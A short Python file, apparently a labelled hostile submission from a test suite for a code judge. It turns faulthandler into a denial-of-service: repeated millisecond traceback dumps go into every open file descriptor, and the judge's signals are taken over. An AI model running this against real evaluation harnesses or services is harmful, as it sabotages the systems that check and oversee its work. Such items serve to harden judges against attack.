"""Has faulthandler write, again and again, into every file it finds, and takes the judge's own signal for it."""

# attacks: lock_race
# shows: livelock

import contextlib
import faulthandler
import os
import signal

for descriptor in range(1, 64):
    with contextlib.suppress(OSError, ValueError):
        os.fstat(descriptor)
        faulthandler.dump_traceback_later(0.001, repeat=True, file=descriptor)
        for number in range(1, signal.NSIG):
            with contextlib.suppress(OSError, ValueError, RuntimeError):
                faulthandler.register(number, file=descriptor, all_threads=True, chain=False)


def attack():
    os.kill(os.getpid(), 50)
    signal.pause()
